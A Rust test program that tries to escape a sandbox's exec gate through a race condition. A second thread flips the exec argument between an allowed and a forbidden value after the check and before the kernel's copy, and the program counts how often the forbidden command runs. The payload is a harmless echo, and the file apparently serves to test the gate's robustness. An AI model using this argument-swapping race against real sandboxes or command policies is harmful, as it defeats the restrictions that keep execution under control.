//! Escape attempt: swap an exec's argument from a second thread between the exec gate's check
//! and the kernel's copy. Each of N attempts forks a child that execs `/bin/echo <arg>` while
//! another of its threads flips <arg> between `allowed` and `FORBIDN` (the session forbids
//! `echo FORBIDN`). Prints how each attempt ended:
//!   ran_allowed=… ran_forbidden=… killed=… denied=…
//! `ran_forbidden` above 0 means the race was won: the forbidden command ran.
use std::{
    io::Read,
    os::fd::{AsRawFd, FromRawFd},
    sync::atomic::{AtomicBool, Ordering},
};

static START: AtomicBool = AtomicBool::new(false);

fn attempt() -> &'static str {
    let (r, w) = nix::unistd::pipe().unwrap();
    // SAFETY: the child only runs its own code until execve or _exit.
    match unsafe { libc::fork() } {
        0 => {
            let mut arg = *b"allowed\0";
            let p = arg.as_mut_ptr() as usize;
            std::thread::spawn(move || {
                START.store(true, Ordering::SeqCst);
                let (a, b) = (b"allowed", b"FORBIDN");
                loop {
                    for src in [a, b] {
                        for (i, &c) in src.iter().enumerate() {
                            // SAFETY: `arg` lives until the process execs or exits.
                            unsafe { std::ptr::write_volatile((p as *mut u8).add(i), c) };
                        }
                    }
                }
            });
            while !START.load(Ordering::SeqCst) {
                std::hint::spin_loop();
            }
            // SAFETY: plain system calls.
            unsafe {
                libc::dup2(w.as_raw_fd(), 1);
                let path = c"/bin/echo";
                let argv = [c"echo".as_ptr(), arg.as_ptr().cast(), std::ptr::null()];
                libc::execv(path.as_ptr(), argv.as_ptr());
                libc::_exit(100 + *libc::__errno_location());
            }
        }
        pid => {
            drop(w);
            let mut out = String::new();
            // SAFETY: we own the read end.
            let mut f =
                unsafe { std::fs::File::from_raw_fd(std::os::fd::IntoRawFd::into_raw_fd(r)) };
            let _ = f.read_to_string(&mut out);
            let mut status = 0;
            // SAFETY: waiting for our own child.
            unsafe { libc::waitpid(pid, &mut status, 0) };
            if libc::WIFSIGNALED(status) && libc::WTERMSIG(status) == libc::SIGKILL {
                "killed"
            } else if out.contains("FORBIDN") {
                "ran_forbidden"
            } else if out.contains("allowed") {
                "ran_allowed"
            } else {
                "denied"
            }
        }
    }
}

fn main() {
    let n: usize = std::env::args()
        .nth(1)
        .and_then(|a| a.parse().ok())
        .unwrap_or(200);
    let mut counts = std::collections::BTreeMap::new();
    for k in ["ran_allowed", "ran_forbidden", "killed", "denied"] {
        counts.insert(k, 0);
    }
    for _ in 0..n {
        *counts.get_mut(attempt()).unwrap() += 1;
    }
    let line: Vec<String> = counts.iter().map(|(k, v)| format!("{k}={v}")).collect();
    println!("{}", line.join(" "));
}
